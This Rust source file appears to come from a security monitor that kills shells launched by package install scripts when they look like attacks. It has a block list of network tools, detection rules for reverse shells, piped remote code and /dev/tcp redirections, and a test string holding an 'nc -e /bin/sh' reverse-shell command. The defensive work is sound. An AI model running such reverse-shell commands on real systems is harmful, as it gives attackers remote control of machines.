//! The install-script shell rule, case by case (docs/POLICY.md, "Install scripts and
//! shells"). Pure: it judges an exec event and the facts the agent recorded in it
//! ([`ShellFacts`]), so `watcher replay` gives exactly the live verdict.
//!
//! `shells: suspicious` (the default) kills a shell started inside an install script only when
//! it looks like an attack:
//! - its stdin, stdout or stderr is a TCP/UDP socket (a reverse shell);
//! - its stdin is a pipe written by a process of the same install script that is a network tool
//!   or has TCP/UDP sockets open (`curl ... | sh -c ...`);
//! - it reads its commands from stdin (a pipe, a socket, a terminal: `curl ... | sh`, `sh -s`)
//!   or is interactive (`-i`);
//! - its binary is a memfd or a deleted file, was written (ctime) during the step, or is not a
//!   system shell (`/bin`, `/usr/bin`, `/sbin`, `/usr/sbin`, `/usr/local/bin`): a copied,
//!   renamed or package-brought shell (busybox under another name);
//! - its `-c` command runs a program `exec.deny` denies (by a command word) or uses bash's
//!   `/dev/tcp`, `/dev/udp` network redirections;
//! - it was held for judgement and its facts could not be read (fail closed).
//!
//! `shells: deny` (strict) kills every shell an install script starts, except wrapper scripts.
//! A *wrapper script* (a pyenv/asdf/nvm/volta shim, a /usr/bin wrapper, npm's node-gyp-bin) is a
//! script file that existed before the step began and lies outside the install trees: it is
//! not a shell spawned by the install script, whichever way its `#!` line names the shell. A
//! script a package ships or an install script wrote is judged like any shell.
use crate::{
    event::{Exec, ShellFacts, Ts},
    policy::Policy,
    proctree::basename,
};

/// Directories whose shells are the system's own (when they predate the step).
pub const SYSTEM_SHELL_DIRS: &[&str] = &["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/"];

/// Programs whose output fed into a shell is code from the network.
pub const NETWORK_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "ssh",
    "openssl",
    "aria2c",
    "ftp",
    "tftp",
    "busybox",
];

/// What the shell's arguments say it runs.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct ShellArgs {
    /// `-c COMMAND`.
    pub command: Option<String>,
    /// The script operand (`sh build.sh`).
    pub script: Option<String>,
    /// Reads its commands from stdin (no `-c` and no script, or `-s`).
    pub stdin: bool,
    /// `-i`.
    pub interactive: bool,
}

/// Parse a POSIX shell's (and bash's, busybox sh's) command line.
pub fn parse_args(argv: &[String]) -> ShellArgs {
    let mut out = ShellArgs::default();
    let mut i = 1;
    // `busybox sh -c ...`: the applet name comes first.
    if argv.first().is_some_and(|a| basename(a) == "busybox") {
        i = 2;
    }
    let mut cmd_mode = false;
    while i < argv.len() {
        let a = argv[i].as_str();
        if a == "--" || a == "-" {
            i += 1;
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            if matches!(long, "rcfile" | "init-file") {
                i += 1;
            }
            i += 1;
            continue;
        }
        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
            let mut takes = 0;
            for ch in a[1..].chars() {
                match ch {
                    'c' => cmd_mode = true,
                    's' => out.stdin = true,
                    'i' => out.interactive = true,
                    'o' | 'O' => takes += 1,
                    _ => {}
                }
            }
            i += 1 + takes;
            continue;
        }
        break;
    }
    let operand = argv.get(i).cloned();
    if cmd_mode {
        out.command = operand;
        out.stdin = false;
    } else if !out.stdin {
        match operand {
            Some(s) => out.script = Some(s),
            None => out.stdin = true,
        }
    }
    out
}

/// The words of a `-c` command that are in command position (first word of each simple
/// command, after `exec`, `env`, `command`, `nohup`, assignments...).
pub fn command_words(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for seg in cmd.split([';', '|', '&', '(', ')', '`', '\n', '{', '}']) {
        let mut words = seg.split_whitespace().map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '$'));
        for w in words.by_ref() {
            if w.is_empty()
                || (w.contains('=') && !w.starts_with('='))
                || matches!(
                    w,
                    "exec"
                        | "env"
                        | "command"
                        | "nohup"
                        | "sudo"
                        | "time"
                        | "nice"
                        | "then"
                        | "do"
                        | "else"
                        | "!"
                        | "if"
                        | "while"
                        | "until"
                        | "xargs"
                        | "timeout"
                )
                || w.starts_with('-')
            {
                continue;
            }
            out.push(w.to_string());
            break;
        }
    }
    out
}

/// Where packages are installed or built during a step: a script there is the package's, not
/// a wrapper of the machine's toolchain.
pub fn in_install_tree(path: &str, cwd: Option<&str>) -> bool {
    let under_cwd = cwd.is_some_and(|c| c != "/" && path.starts_with(c) && path[c.len()..].starts_with('/'));
    if let Some(i) = path.find("/node_modules/") {
        // <prefix>/lib/node_modules/ is a global install (npm's own, node-gyp-bin...).
        if under_cwd || !path[..i].ends_with("/lib") {
            return true;
        }
    }
    if under_cwd && (path[cwd.unwrap_or("").len()..].starts_with("/target/")) {
        return true;
    }
    // A cargo target directory anywhere (CARGO_TARGET_DIR): target/<profile>/{build,deps,examples}/.
    if let Some(i) = path.find("/target/")
        && path[i + 8..].split('/').take(3).any(|c| matches!(c, "build" | "deps" | "examples"))
    {
        return true;
    }
    // The interpreter of a build's isolated virtual environment (poetry and `build` create
    // `<tempdir>/.venv` for a PEP 517 build): only its `bin/python*`, not anything in it.
    if let Some((dir, exe)) = path.rsplit_once('/')
        && dir.ends_with("/.venv/bin")
        && exe.starts_with("python")
    {
        return true;
    }
    // yarn classic's per-run shims for lifecycle scripts: `<tmp>/yarn--<time>-<random>/{node,yarn}`.
    if let Some((dir, exe)) = path.rsplit_once('/')
        && dir.rsplit('/').next().is_some_and(|d| d.starts_with("yarn--"))
        && matches!(exe, "node" | "yarn")
    {
        return true;
    }
    path.split('/').any(|c| {
        c.starts_with("pip-install-")
            || c.starts_with("pip-build-env-")
            || c.starts_with("pip-req-build-")
            || c.starts_with("pip-wheel-")
            || c.starts_with("pip-ephem-wheel-cache-")
            || c.starts_with("cargo-install")
    }) || path.contains("/.cargo/registry/")
        || path.contains("/.cargo/git/")
}

/// A wrapper script: it existed before the step began and lies outside the install trees.
pub fn is_wrapper(facts: &ShellFacts, start: Ts, cwd: Option<&str>) -> bool {
    match (&facts.script, facts.script_ctime) {
        (Some(p), Some(t)) => t < start && !in_install_tree(p, cwd),
        _ => false,
    }
}

/// What the engine knows besides the event.
pub struct Context<'a> {
    pub policy: &'a Policy,
    /// The step's start (its `start` record).
    pub start: Ts,
    /// The step's working directory.
    pub cwd: Option<&'a str>,
    /// `shells: deny`.
    pub strict: bool,
    /// Whether a process belongs to the same install script as the shell.
    pub same_script: &'a dyn Fn(u32) -> bool,
}

fn is_inet(stdio: &str) -> bool {
    stdio.starts_with("socket:") && (stdio.ends_with("/tcp") || stdio.ends_with("/udp"))
}

/// Why this shell must not run (None: it may).
pub fn judge(x: &Exec, ctx: &Context) -> Option<String> {
    let args = parse_args(&x.argv);
    let facts = x.facts.as_deref();
    if x.held {
        match facts {
            None => return Some("it could not be judged (no facts were read while it was held)".into()),
            Some(ShellFacts { error: Some(e), .. }) => return Some(format!("it could not be judged ({e})")),
            Some(_) => {}
        }
    }
    if let Some(f) = facts {
        const NAMES: [&str; 3] = ["stdin", "stdout", "stderr"];
        for (i, s) in f.stdio.iter().enumerate().take(3) {
            if let Some(s) = s
                && is_inet(s)
            {
                return Some(format!("its {} is a network socket ({s}): a reverse shell", NAMES[i]));
            }
        }
        for w in &f.stdin_writers {
            if !(ctx.same_script)(w.pid) {
                continue;
            }
            let name = w.exe.as_deref().map(basename).unwrap_or(w.comm.as_str());
            let denied = w.exe.as_deref().and_then(|e| ctx.policy.exec_denied(e)).is_some();
            if NETWORK_TOOLS.contains(&name) || denied {
                return Some(format!("its stdin is a pipe from {name} (pid {}), a network tool", w.pid));
            }
            if w.inet_sockets > 0 {
                return Some(format!(
                    "its stdin is a pipe from {name} (pid {}), which has {} network socket(s) open",
                    w.pid, w.inet_sockets
                ));
            }
        }
        if let Some(exe) = &f.exe {
            if exe.starts_with("/memfd:") {
                return Some(format!("it runs from a memfd ({exe})"));
            }
            if exe.ends_with(" (deleted)") || f.exe_nlink == Some(0) {
                return Some(format!("it runs from a deleted file ({exe})"));
            }
            if !SYSTEM_SHELL_DIRS.iter().any(|d| exe.starts_with(d) && !exe[d.len()..].contains('/')) {
                return Some(format!(
                    "its binary {exe} is not a system shell (copied, renamed or brought by a package)"
                ));
            }
            if f.exe_ctime.is_some_and(|t| t >= ctx.start) {
                return Some(format!("its binary {exe} was written during the step"));
            }
        }
    }
    let wrapper = facts.is_some_and(|f| is_wrapper(f, ctx.start, ctx.cwd));
    if !x.script && !wrapper {
        if args.interactive {
            return Some("it is an interactive shell (-i)".into());
        }
        if args.stdin {
            // Commands from a regular file (or nothing, /dev/null) are like a script operand.
            let from = facts.and_then(|f| f.stdio.first().cloned().flatten());
            let file = from.as_deref().is_some_and(|s| {
                s.starts_with('/')
                    && !s.starts_with("/dev/pts/")
                    && !s.starts_with("/dev/tty")
                    && !s.starts_with("/memfd:")
                    && !s.ends_with(" (deleted)")
            });
            if !file {
                return Some(format!("it reads its commands from stdin ({})", from.as_deref().unwrap_or("unknown")));
            }
        }
        if let Some(cmd) = &args.command {
            if cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/") {
                return Some("its command uses a /dev/tcp or /dev/udp network redirection".into());
            }
            for w in command_words(cmd) {
                if let Some(rule) = ctx.policy.exec_denied(&w)
                    && rule != crate::policy::NOT_IN_EXEC_ALLOW
                {
                    return Some(format!("its command runs {w}, denied by exec rule {rule:?}"));
                }
            }
        }
    }
    if ctx.strict && !wrapper {
        return Some("shells: deny (strict) forbids every shell in an install script".into());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn arguments() {
        assert_eq!(
            parse_args(&v(&["sh", "-c", "pkg-config --modversion vips"])).command.as_deref(),
            Some("pkg-config --modversion vips")
        );
        assert_eq!(
            parse_args(&v(&["bash", "-e", "-o", "pipefail", "build.sh", "x"])).script.as_deref(),
            Some("build.sh")
        );
        assert!(parse_args(&v(&["sh"])).stdin);
        assert!(parse_args(&v(&["sh", "-s", "--", "a"])).stdin);
        assert!(parse_args(&v(&["bash", "-i"])).interactive);
        assert_eq!(parse_args(&v(&["busybox", "sh", "-c", "id"])).command.as_deref(), Some("id"));
        assert_eq!(parse_args(&v(&["bash", "--norc", "--rcfile", "r", "s.sh"])).script.as_deref(), Some("s.sh"));
        assert_eq!(parse_args(&v(&["sh", "-ec", "x"])).command.as_deref(), Some("x"));
    }

    #[test]
    fn command_position_words() {
        assert_eq!(
            command_words("FOO=1 exec nc -e /bin/sh h 1; echo ok | env X=y curl -s u"),
            v(&["nc", "echo", "curl"])
        );
        assert_eq!(command_words("rm -rf /tmp/x && /tmp/y/z"), v(&["rm", "/tmp/y/z"]));
    }

    #[test]
    fn install_trees() {
        assert!(in_install_tree("/p/node_modules/x/bin/s.sh", Some("/p")));
        assert!(in_install_tree("/home/u/node_modules/x/s", None));
        assert!(!in_install_tree(
            "/usr/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin/node-gyp",
            Some("/p")
        ));
        assert!(in_install_tree("/tmp/pip-build-env-abc/overlay/bin/x", None));
        assert!(!in_install_tree("/root/.pyenv/shims/python3", Some("/root/p")));
        assert!(in_install_tree("/root/.cargo/registry/src/x/y/build.sh", None));
        // A PEP 517 build's isolated venv (poetry, `build`): its interpreter, nothing else in it.
        assert!(in_install_tree("/tmp/tmpuroei6zn/.venv/bin/python", None));
        assert!(in_install_tree("/tmp/tmpuroei6zn/.venv/bin/python3.11", None));
        assert!(!in_install_tree("/tmp/tmpuroei6zn/.venv/bin/dropper", None));
        assert!(!in_install_tree("/tmp/tmpuroei6zn/.venv/python", None));
        // yarn classic's lifecycle shims, and nothing else in their directory.
        assert!(in_install_tree("/tmp/yarn--1796138407324-0.028868405776738104/node", None));
        assert!(in_install_tree("/tmp/yarn--1796138407324-0.028868405776738104/yarn", None));
        assert!(!in_install_tree("/tmp/yarn--1796138407324-0.02886/dropper", None));
        assert!(in_install_tree("/p/target/release/build/x/out/s", Some("/p")));
        assert!(in_install_tree("/tmp/w/target/debug/build/x-0a/build-script-build", Some("/p")));
        assert!(!in_install_tree("/tmp/target/x", Some("/p")));
    }
}
